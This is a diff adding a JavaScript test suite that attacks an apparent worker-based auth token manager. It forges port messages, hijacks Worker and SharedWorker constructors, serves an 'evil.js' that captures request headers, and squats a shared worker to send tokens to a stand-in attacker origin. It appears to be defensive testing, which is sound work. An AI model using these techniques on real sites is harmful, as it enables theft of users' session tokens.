@@ -1,0 +1,262 @@
+// Scripts of the same origin that speak to the worker in which the token lives: on the page's own port, on another, from another tab, and
+// with a worker of their own. What the page's home has not is mounted in the others alone.
+
+import { ACCESS, REFRESH } from '../support/rows.mjs'
+
+const WORKERS = ['worker', 'shared-worker']
+const SHARED = ['shared-worker']
+const MEMORY = { refreshToken: { json: 'refresh_token' } }
+const API = { apis: ['/api'] }
+
+const alone = (name, seeks, inherent, mount, more) => ({ name, seeks, inherent, homes: WORKERS, mount, ...more })
+
+/** Keeps the ports that the page speaks on, the worker itself, and the words that it began with. Runs in the page, before the package. */
+function tap() {
+  globalThis.tapped = { ports: new Set(), workers: [] }
+  const { postMessage } = MessagePort.prototype
+  MessagePort.prototype.postMessage = function (message, ...more) {
+    if (message?.kind === 'hello') tapped.hello = structuredClone(message)
+    tapped.ports.add(this)
+    return postMessage.call(this, message, ...more)
+  }
+  for (const name of ['Worker', 'SharedWorker']) {
+    globalThis[name] = new Proxy(globalThis[name], {
+      construct(of, args) {
+        tapped.workers.push({ name, args, worker: Reflect.construct(of, args) })
+        return tapped.workers.at(-1).worker
+      },
+    })
+  }
+}
+
+/** Sends these messages on the tapped port, keeps all that is heard there, and is done when each that has a number is answered. Runs in the page. */
+async function say(messages) {
+  const [port] = tapped.ports
+  const waiting = new Set(messages.flatMap(({ id }) => id ?? []))
+  const answered = new Promise((resolve) => {
+    port.addEventListener('message', ({ data }) => {
+      attacker.keep(data)
+      waiting.delete(data.id)
+      if (!waiting.size) resolve()
+    })
+  })
+  for (const message of messages) port.postMessage(message)
+  await answered
+}
+
+/** A tab with a tapped port, in which somebody has signed in. */
+const tapped = (scene, options) => scene.signedIn({ options: { ...API, ...options }, before: tap })
+
+/** What has been sent elsewhere, or to what is not the API. */
+const lured = ({ server, elsewhere }) => [
+  elsewhere.loot(),
+  server.seen().filter(({ path }) => !/^\/(api|auth)(\/|$)/.test(path)).map(({ headers }) => [headers.authorization, headers['x-token']]),
+]
+
+/** Messages that were never written for the page: in each kind that there is, with members that a reader may trip over. */
+const ODD = [
+  undefined, null, 0, '', 'token?', [], {}, { kind: 'hello' }, { kind: '__proto__' }, { kind: 'constructor' },
+  ...['fetch', 'call', 'body', 'abort', 'pull', 'cancel', 'marks', 'shown', 'facts', 'welcome', 'state', 'token'].flatMap((kind) => [
+    { kind },
+    { kind, id: -1, stream: -1, method: 'login', request: null, facts: null, marks: null },
+    { kind, id: '__proto__', stream: '__proto__', method: '__proto__', request: { url: 7, init: 7 }, facts: { cookies: 7 }, marks: 7 },
+    { kind, id: 1e9, method: 'exchange', request: { url: '//', init: { method: 7, headers: 7 }, body: { later: true } } },
+  ]),
+]
+
+export default [
+  alone('Forged messages on the page\'s port ask for the token', ACCESS, [], async (scene) => {
+    const page = await tapped(scene)
+    const methods = ['getAccessToken', 'peekAccessToken', 'state', 'constructor', 'toString', 'known', 'signedIn', 'refresh']
+    await page.evaluate(say, methods.flatMap((method, i) => [{ kind: method }, { kind: 'call', id: 1e6 + i, method }]))
+    return scene.loot(page)
+  }),
+  alone('Forged messages on the page\'s port ask for the refresh token in memory', REFRESH, [], async (scene) => {
+    const page = await tapped(scene, MEMORY)
+    const request = { url: `${scene.server.origin}/auth/refresh`, init: { method: 'POST', headers: [] } }
+    await page.evaluate(say, ['login', 'exchange', 'logout', 'fetch'].map((method, i) => ({ kind: method === 'fetch' ? method : 'call', id: 1e6 + i, method, request })))
+    return scene.loot(page)
+  }, { server: { isInMemory: true } }),
+  alone('Forged messages on the page\'s port widen the options', ACCESS, [], async (scene) => {
+    const page = await tapped(scene)
+    await page.evaluate(async (far) => {
+      const options = { ...tapped.hello?.options, apis: [far], exposeToken: true }
+      const facts = { cookies: {}, controlled: false, visible: true, apis: [far] }
+      const [port] = tapped.ports
+      for (const message of [{ ...tapped.hello, kind: 'hello', options }, { kind: 'facts', facts, options }, { kind: 'welcome', apis: [[far, '/']] }]) port.postMessage(message)
+      port.addEventListener('message', ({ data }) => attacker.keep(data))
+      await auth.fetch('/api/me')
+      // The page may believe it: it is the worker that sends.
+      port.dispatchEvent(new MessageEvent('message', { data: { kind: 'welcome', apis: [[far, '/']], cookies: [] } }))
+      await auth.fetch(`${far}/x`).catch(() => {})
+    }, scene.elsewhere.origin)
+    return [...lured(scene), await scene.loot(page)]
+  }),
+  alone('Forged messages on the page\'s port have calls sent elsewhere', ACCESS, [], async (scene) => {
+    scene.server.routes['/outside'] = () => ({ body: 'outside' })
+    const page = await tapped(scene)
+    const urls = [`${scene.elsewhere.origin}/x`, `${scene.server.origin}/outside`, '/outside', `${scene.server.origin}/api/../outside`, `http://127.0.0.1:${scene.elsewhere.port}/api/x`, [`${scene.elsewhere.origin}/x`]]
+    const inits = [{ headers: [] }, { headers: [], mode: 'no-cors' }, { method: 'POST', headers: [['X-One', '1']] }]
+    let id = 1e6
+    // In rounds: a login or a logout would take back what has not been sent by then.
+    for (const method of ['fetch', 'exchange', 'login', 'logout']) {
+      // An exchange may go to all of the server that refreshes: see there.
+      const asked = urls.filter((url) => method !== 'exchange' || !url.includes(scene.server.origin))
+      await page.evaluate(say, asked.flatMap((url) => inits.map((init) => (
+        method === 'fetch' ? { kind: 'fetch', id: ++id, request: { url, init } } : { kind: 'call', id: ++id, method, request: { url, init: { method: 'POST', ...init } } }
+      ))))
+    }
+    return lured(scene)
+  }),
+  alone('A flood of malformed messages, for errors that tell', ACCESS, [], async (scene) => {
+    const page = await tapped(scene)
+    await page.evaluate(async (messages) => {
+      const [port] = tapped.ports
+      port.addEventListener('message', ({ data }) => attacker.keep(data))
+      for (const message of messages) port.postMessage(message)
+      await auth.fetch('/api/me')
+    }, Array(40).fill(ODD).flat())
+    const answer = await page.evaluate(() => auth.fetch('/api/me').then(({ status }) => status))
+    if (answer !== 200) throw new Error(`the app goes on: ${answer}`)
+    return scene.loot(page)
+  }),
+  alone('Another port to the page\'s worker, with options of the attacker\'s', ACCESS, [], async (scene) => {
+    const page = await tapped(scene)
+    await page.evaluate(async (far) => {
+      const { name, args, worker } = tapped.workers[0]
+      const { port1, port2 } = new MessageChannel()
+      let port = port1
+      if (name === 'Worker') worker.postMessage('tokenkeep', [port2])
+      else ({ port } = new SharedWorker(...args))
+      port.onmessage = ({ data }) => attacker.keep(data)
+      port.postMessage({ ...tapped.hello, kind: 'hello', options: { ...tapped.hello.options, apis: [far] } })
+      port.postMessage({ kind: 'facts', facts: { cookies: {}, controlled: false, visible: true } })
+      port.postMessage({ kind: 'fetch', id: 1, request: { url: `${far}/x`, init: { headers: [] } } })
+      await auth.fetch('/api/me')
+      await auth.fetch('/api/last')
+    }, scene.elsewhere.origin)
+    return [...lured(scene), await scene.loot(page)]
+  }),
+  alone('A shared worker of the app\'s name, started before the app by another tab, with more `apis`', ACCESS, [], async (scene) => {
+    const squatter = await squats(scene)
+    const page = await scene.tab({ options: { ...API, ...MEMORY }, before: tap }).catch(() => undefined)
+    await page?.evaluate(async (far) => {
+      await auth.login('/auth/login', { body: new URLSearchParams({ username: 'alice' }) }).catch(() => {})
+      await auth.fetch('/api/me').catch(() => {})
+      await auth.fetch(`${far}/x`).catch(() => {})
+    }, scene.elsewhere.origin)
+    await squatter.evaluate((far) => send(`${far}/x`), scene.elsewhere.origin)
+    return [...lured(scene), await scene.loot(squatter)]
+  }, { homes: SHARED, server: { isInMemory: true } }),
+  alone('A shared worker of the app\'s name, started before the app by another tab, with more `apis`', 'that the app cannot start', SHARED, async (scene) => {
+    await squats(scene)
+    return scene.tab({ options: { ...API, ...MEMORY } }).then(() => false, () => true)
+  }, { homes: SHARED, server: { isInMemory: true } }),
+  ...['before', 'after'].map((when) => alone('`MessagePort.prototype.postMessage` adds to the options', ACCESS, when === 'before' ? WORKERS : [], async (scene) => {
+    const page = await scene.tab({ options: API, argument: scene.elsewhere.origin, [when]: (far) => {
+      const { postMessage } = MessagePort.prototype
+      MessagePort.prototype.postMessage = function (message, ...more) {
+        return postMessage.call(this, message.options ? { ...message, options: { ...message.options, apis: [far] } } : message, ...more)
+      }
+    } })
+    await scene.signIn(page)
+    await page.evaluate((far) => auth.fetch(`${far}/x`).catch(() => {}), scene.elsewhere.origin)
+    return lured(scene)
+  }, { when })),
+  ...['before', 'after'].map((when) => alone('`Worker` and `SharedWorker`, in whose place is another script', ACCESS, when === 'before' ? WORKERS : [], async (scene) => {
+    scene.server.routes['/evil.js'] = () => ({ type: 'text/javascript', body: `
+      const { fetch } = globalThis
+      const told = new BroadcastChannel('evil')
+      globalThis.fetch = (...args) => {
+        const request = new Request(...args)
+        told.postMessage([...request.headers].flat())
+        return fetch(request)
+      }
+      addEventListener('message', ({ data }) => {
+        told.postMessage(String(data))
+        globalThis.postMessage?.('')
+      })
+      // What comes before the script is there is not lost.
+      const early = []
+      const listen = (event) => early.push(event)
+      for (const type of ['message', 'connect']) addEventListener(type, listen)
+      await import('/tokenkeep/isolation/script.js')
+      for (const type of ['message', 'connect']) removeEventListener(type, listen)
+      for (const { type, data, ports } of early) dispatchEvent(new MessageEvent(type, { data, ports: [...ports] }))
+    ` })
+    const page = await scene.tab({ options: API, [when]: () => {
+      new BroadcastChannel('evil').onmessage = ({ data }) => attacker.keep(data)
+      for (const name of ['Worker', 'SharedWorker']) globalThis[name] = new Proxy(globalThis[name], { construct: (of, [, how]) => new of('/evil.js', { ...how, type: 'module' }) })
+    } })
+    await scene.signIn(page)
+    await page.evaluate(async () => {
+      await auth.fetch('/api/me')
+      await auth.fetch('/api/me')
+    })
+    return scene.loot(page)
+  }, { when })),
+  alone('A worker of the attacker\'s own, with the package\'s script, more `apis` and the refresh cookie', ACCESS, WORKERS, async (scene) => {
+    await scene.signedIn({ options: API })
+    return ownWorker(scene)
+  }),
+  alone('A worker of the attacker\'s own, with the package\'s script and more `apis`, where the refresh token is in memory', ACCESS, [], async (scene) => {
+    await scene.signedIn({ options: { ...API, ...MEMORY } })
+    return ownWorker(scene, MEMORY)
+  }, { server: { isInMemory: true } }),
+]
+
+/** A manager of the attacker's, in another tab, whose token goes to him. */
+async function ownWorker(scene, options) {
+  const { module, options: { isolation } = {} } = scene.home
+  const other = await scene.blank()
+  await other.evaluate(async ([module, isolation, far, options]) => {
+    const { createTokenManager } = await import(module)
+    const mine = createTokenManager({ refresh: '/auth/refresh', logout: '/auth/logout', apis: [far], isolation, ...options })
+    await mine.fetch(`${far}/x`).catch(() => {})
+  }, [module, isolation, scene.elsewhere.origin, options])
+  return lured(scene)
+}
+
+/**
+ * A tab of the attacker's that has started a shared worker under the name that the app's will ask for, has given it options of its own
+ * and called them the app's. It can `send` there.
+ */
+async function squats(scene) {
+  const told = await scene.blank()
+  await told.evaluate(tap)
+  await told.evaluate(() => {
+    const { SharedWorker } = globalThis
+    globalThis.SharedWorker = new Proxy(SharedWorker, {
+      construct(of, args) {
+        const made = Reflect.construct(of, [URL.createObjectURL(new Blob([''])), { name: 'none' }])
+        globalThis.named = args.map((arg) => (arg instanceof URL ? arg.href : arg))
+        return made
+      },
+    })
+  })
+  await told.evaluate(async ([module, options]) => {
+    const { createTokenManager } = await import(module)
+    globalThis.none = createTokenManager(options)
+  }, [scene.home.module, { refresh: '/auth/refresh', logout: '/auth/logout', ...API, ...MEMORY, ...scene.home.options }])
+  const [args, hello] = await told.evaluate(() => [named, tapped.hello])
+  await told.close()
+
+  const squatter = await scene.blank()
+  await squatter.evaluate(([args, hello, far]) => {
+    const { port } = new SharedWorker(...args)
+    const ready = new Promise((resolve) => {
+      port.onmessage = ({ data }) => {
+        attacker.keep(data)
+        if (data.kind === 'welcome') port.postMessage({ kind: 'facts', facts: { cookies: {}, controlled: false, visible: true } })
+        if (data.kind === 'ready' || data.kind === 'failed') resolve()
+      }
+    })
+    globalThis.send = (url) => new Promise((resolve) => {
+      port.addEventListener('message', ({ data }) => data.id === 1 && resolve())
+      port.postMessage({ kind: 'fetch', id: 1, request: { url, init: { headers: [] } } })
+    })
+    port.postMessage({ ...hello, options: { ...hello.options, apis: [far, ...hello.options.apis] } })
+    return ready
+  }, [args, hello, scene.elsewhere.origin])
+  return squatter
+}
